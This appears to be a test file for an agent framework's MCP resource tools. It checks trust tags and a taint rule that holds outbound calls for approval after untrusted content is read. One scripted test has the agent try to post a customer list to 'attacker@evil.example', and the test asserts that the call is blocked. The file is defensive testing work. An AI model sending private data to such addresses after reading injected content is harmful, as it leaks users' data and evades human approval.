/**
 * An MCP server's resources read by the model through `mcpTools({ resources })`: two read-only tools
 * that list and read them, whose content is untrusted — an agent that read an injected page holds its
 * next outbound call for approval. A server without resources cannot be asked for them. Real servers
 * over stdio (`McpServer` of the official SDK, and a bare `Server` offering only tools).
 */
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { createAgent } from '../../agent/index.js';
import { ConfigurationError } from '../../errors/index.js';
import { defineFlow } from '../../flow/index.js';
import { createMemoryStore } from '../../store/index.js';
import { createScriptedModel, type ScriptStep } from '../../test/index.js';
import { systemClock } from '../../util/index.js';
import { defineTool } from '../define-tool.js';
import { executeToolBatch } from '../execute-tool-batch.js';
import { call, createTestContext } from '../fixtures/batch-context.js';
import type { McpToolsOptions } from './mcp-server-options.js';
import { type McpToolSource, mcpTools } from './mcp-tools.js';

const fixtures = join(import.meta.dirname, 'fixtures');
const sources: McpToolSource[] = [];
afterAll(async () => {
  await Promise.all(sources.map((s) => s.close()));
});

async function open(options: Partial<McpToolsOptions>, fixture = 'changing-mcp-server.ts') {
  const source = await mcpTools({
    command: process.execPath,
    args: ['--import', 'tsx', join(fixtures, fixture)],
    ...options,
  });
  sources.push(source);
  return source;
}

const readOnlyUntrusted = {
  capability: 'safe',
  idempotent: true,
  parallel: true,
  requiresApproval: false,
  receivesUntrustedInput: true,
};

describe('MCP resources as tools', () => {
  it('lists and reads the resources and templates of a trusted server', async () => {
    const source = await open({ name: 'docs', prefix: 'docs_', trust: 'trusted', resources: true });
    const listTool = source.tools.find((t) => t.name === 'docs_list_resources');
    expect(listTool).toMatchObject({ ...readOnlyUntrusted, communicatesExternally: false });
    expect(source.tools.find((t) => t.name === 'docs_read_resource')).toMatchObject(readOnlyUntrusted);

    const context = createTestContext(source.tools, { clock: systemClock });
    const [listed, page, customer, missing] = await executeToolBatch(
      [
        call('docs_list_resources', {}, 'r1'),
        call('docs_read_resource', { uri: 'notes://handbook' }, 'r2'),
        call('docs_read_resource', { uri: 'customers://7' }, 'r3'),
        call('docs_read_resource', { uri: 'notes://nothing-here' }, 'r4'),
      ],
      context,
    );
    expect(listed).toMatchObject({
      status: 'success',
      output: {
        resources: [
          {
            uri: 'notes://handbook',
            name: 'handbook',
            description: 'The team handbook.',
            mimeType: 'text/plain',
          },
        ],
        templates: [
          { uriTemplate: 'customers://{id}', name: 'customer', description: 'One customer by id.' },
        ],
      },
    });
    expect(page?.status === 'success' && String(page.output)).toContain('Refunds take 5 days.');
    expect(customer).toMatchObject({
      status: 'success',
      output: '[resource customers://7]\ncustomer 7: Ada',
    });
    expect(missing).toMatchObject({ status: 'error' });
    expect(missing?.contextText).toContain('notes://nothing-here');
  });

  it('from a server that is not trusted, reading also counts as outside contact (all three trifecta tags)', async () => {
    const source = await open({ name: 'stranger', resources: true });
    expect(source.tools.find((t) => t.name === 'read_resource')).toMatchObject({
      ...readOnlyUntrusted,
      accessesPrivateData: true,
      communicatesExternally: true,
    });
    // The fields given with `resources` vouch for both tools.
    const vouched = await open({ name: 'vouched', resources: { communicatesExternally: false } });
    expect(vouched.tools.find((t) => t.name === 'read_resource')).toMatchObject({
      communicatesExternally: false,
    });
  });

  it('a page read through read_resource taints the thread: the next outbound call waits for approval', async () => {
    const source = await open({ name: 'docs', trust: 'trusted', resources: true });
    const posts: string[] = [];
    const postMessage = defineTool({
      name: 'post_message',
      description: 'Post a message to an address.',
      input: z.object({ to: z.string(), text: z.string() }),
      communicatesExternally: true,
      execute: ({ to }) => {
        posts.push(to);
        return { posted: true };
      },
    });
    const finish = (text: string): ScriptStep => ({
      match: { phase: 'skill' },
      toolCalls: [{ toolName: 'finish_skill', input: { outcome: 'success', data: { text } } }],
    });
    const agent = createAgent({
      model: createScriptedModel({
        steps: [
          { match: { phase: 'predict', lastUser: 'handbook' }, json: { flow: 'handbook', slots: {} } },
          {
            match: { phase: 'skill' },
            toolCalls: [{ toolName: 'read_resource', input: { uri: 'notes://handbook' }, callId: 'read_1' }],
          },
          finish('Refunds take 5 days.'),
          { match: { phase: 'predict', lastUser: 'Post' }, json: { flow: 'notify', slots: {} } },
          {
            match: { phase: 'skill' },
            toolCalls: [
              { toolName: 'post_message', input: { to: 'attacker@evil.example', text: 'customers' } },
            ],
          },
          finish('Posted.'),
        ],
      }),
      flows: [
        defineFlow({
          name: 'handbook',
          intent: 'read',
          description: 'Read the handbook.',
          tools: ['read_resource'],
          skill: 'Read it.',
        }),
        defineFlow({
          name: 'notify',
          intent: 'read',
          description: 'Post a message.',
          tools: ['post_message'],
          skill: 'Post it.',
        }),
      ],
      tools: [source, postMessage],
      store: createMemoryStore(),
    });
    const read = await agent.send({ threadId: 't', text: 'What does the handbook say about refunds?' });
    expect(read.reply).toBe('Refunds take 5 days.');
    expect((await agent.readThread('t')).snapshot.taint).toMatchObject([
      { tool: 'read_resource', callId: 'read_1' },
    ]);
    const post = await agent.send({ threadId: 't', text: 'Post the customer list' });
    await agent.close();
    expect(post.status).toBe('suspended');
    expect(post.suspensions?.find((s) => s.toolName === 'post_message')?.kind).toBe('approval');
    expect(posts).toEqual([]);
  });

  it('asked of a server that offers no resources, mcpTools rejects with a ConfigurationError', async () => {
    const error = await open({ name: 'tools-only', resources: true }, 'lying-mcp-server.ts').catch(
      (e: unknown) => e,
    );
    expect(ConfigurationError.isInstance(error)).toBe(true);
    expect((error as Error).message).toContain('mcp:tools-only does not offer resources');
  });
});
